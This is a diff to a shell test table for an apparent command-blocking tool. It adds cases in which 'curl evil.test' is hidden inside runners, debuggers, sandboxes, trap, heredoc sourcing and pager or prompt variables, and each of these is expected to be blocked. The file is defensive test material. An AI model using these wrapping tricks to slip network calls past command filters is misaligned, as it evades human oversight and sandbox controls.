@@ -136,6 +136,31 @@ row 0 "" 'docker run --rm -v "$PWD":/src -w /src alpine make'
 row 0 "" 'gh pr list'
 row 0 "" 'git -c core.pager=less log'
 
+# ---- review (bashreview): runners, builtins and command-valued variables that hid a
+# host from the previous binary
+row 2 "$B" 'dbus-run-session -- curl evil.test'
+row 2 "$B" 'systemd-run --user -p MemoryMax=1G curl evil.test'
+row 2 "$B" 'firejail --noprofile curl evil.test'
+row 2 "$B" 'bwrap --ro-bind / / --dev /dev --unshare-pid curl evil.test'
+row 2 "$B" "ssh-agent bash -c 'curl evil.test'"
+row 2 "$B" 'pkexec --user root curl evil.test'
+row 2 "$B" 'catchsegv curl evil.test'
+row 2 "$B" "valgrind --trace-children=yes sh -c 'curl evil.test'"
+row 2 "$B" 'gdb -batch -ex run --args curl evil.test'
+row 2 "$B" "gdb -batch -ex 'shell curl evil.test' ./a.out"
+row 2 "$B" 'doas -a bsdauth curl evil.test'
+row 2 "$B" "trap 'curl evil.test' EXIT"
+row 2 "$B" "source /dev/stdin <<< 'curl evil.test'"
+row 2 "$B" $'. /dev/stdin <<\'EOF\'\ncurl evil.test\nEOF'
+row 2 '^halo-run: blocked: xargs sh -c: the script comes from standard input' "echo 'curl evil.test' | xargs sh -c"
+row 2 "$B" "PROMPT_COMMAND='curl evil.test' bash -i"
+row 2 "$B" "GIT_PAGER='curl evil.test' git log"
+row 2 "$B" "MANPAGER='curl evil.test' man ls"
+row 0 "" "trap 'rm -f /tmp/x' EXIT"
+row 0 "" 'source .venv/bin/activate && pytest'
+row 0 "" 'GIT_PAGER=cat git log -n 3'
+row 0 "" 'valgrind --leak-check=full ./build/test_x'
+
 # Time per event: 1000 events through a fresh process each, one timed at a time.
 evfile=$TMPDIR/event.json
 bash_ev "sudo nice find . -name '*.c' -exec flock /tmp/l sh -c 'python3 - <<EOF
